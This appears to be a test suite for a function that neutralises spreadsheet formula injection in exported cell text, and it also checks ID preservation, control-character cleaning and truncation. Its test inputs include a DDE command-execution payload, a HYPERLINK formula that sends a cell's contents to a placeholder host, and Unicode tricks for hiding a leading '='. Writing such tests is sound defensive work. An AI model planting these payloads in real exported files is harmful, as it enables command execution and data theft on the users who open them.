import * as fc from 'fast-check';
import { CUT_MARK, LONGEST_CELL_TEXT, MOST_LINE_FEEDS, cellText } from './cell-text.js';

describe('free text in a cell is never a formula', () => {
  test.each([
    '=1+1',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '=HYPERLINK("http://x/?"&A1,"查看")',
    "=cmd|'/C calc'!A0",
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1',
    '−1',
    ' =1+1',
    '\u3000=1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u202e=1+1',
    '\t=1+1',
    '\t正常',
    '\n=1+1',
    '\n正常',
  ])('%j gets an apostrophe in front and stays as it is otherwise', (text) => {
    expect(cellText(text)).toBe(`'${text}`);
  });

  test.each([
    ['\r=1+1', "'\n=1+1"],
    ['\r\n=1+1', "'\n=1+1"],
    ['\u0000=1+1', "'=1+1"],
    ['\u0001\u0000@A1', "'@A1"],
    ['\ufffe+1', "'+1"],
    ['\u000b=1', "'\n=1"],
  ])('%j is judged by what is left after cleaning', (text, cell) => {
    expect(cellText(text)).toBe(cell);
  });

  test('whatever is typed, no cell begins like a formula', () => {
    const dangerous = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '\0',
      '\ufffe',
      ' ',
      '＝',
      'x',
      '_x003D_',
      '家',
    );
    fc.assert(
      fc.property(fc.array(dangerous, { maxLength: 6 }), (parts) => {
        expect(cellText(parts.join(''))).not.toMatch(/^[\s\0]*[=+\-@＝]|^[\t\r\n]/u);
      }),
    );
  });
});

describe('F31: ids, codes and phones are character-equal', () => {
  test.each([
    '34182519580312004X',
    '003418',
    '0079',
    '341881102203',
    '13812345678',
    '0563-4000000',
    '**************123X',
  ])('%s stays', (text) => {
    expect(cellText(text)).toBe(text);
  });
});

describe('F33: remarks', () => {
  test('characters no sheet may contain are taken out or shown, line breaks and emoji stay', () => {
    expect(cellText('甲\u0001乙\u000b丙\r\n丁\r戊\u2028己\ufffe庚\ud83d辛👨‍👩‍👧𫖯\t')).toBe(
      '甲乙\n丙\n丁\n戊\n己庚\ufffd辛👨‍👩‍👧𫖯\t',
    );
  });

  test('a text that reads like an escape of the file format is not turned into a character by the reader', () => {
    expect(cellText('_x003D_1 与 _x000D_ 与 _xyz_')).toBe('_x005F_x003D_1 与 _x005F_x000D_ 与 _xyz_');
  });

  test('a text too long for a cell is cut with a visible mark, never through a character', () => {
    expect(cellText('家'.repeat(LONGEST_CELL_TEXT))).toBe('家'.repeat(LONGEST_CELL_TEXT));
    const kept = LONGEST_CELL_TEXT - CUT_MARK.length;
    expect(cellText('家'.repeat(LONGEST_CELL_TEXT + 1))).toBe('家'.repeat(kept) + CUT_MARK);
    expect(cellText(`${'家'.repeat(kept - 1)}${'😀'.repeat(20)}`)).toBe('家'.repeat(kept - 1) + CUT_MARK);
    expect(cellText('='.repeat(LONGEST_CELL_TEXT))).toHaveLength(LONGEST_CELL_TEXT);
  });

  test('more line breaks than a cell holds become blanks', () => {
    expect(cellText(`家${'\n家'.repeat(MOST_LINE_FEEDS + 2)}`)).toBe(`家${'\n家'.repeat(MOST_LINE_FEEDS)} 家 家`);
  });
});
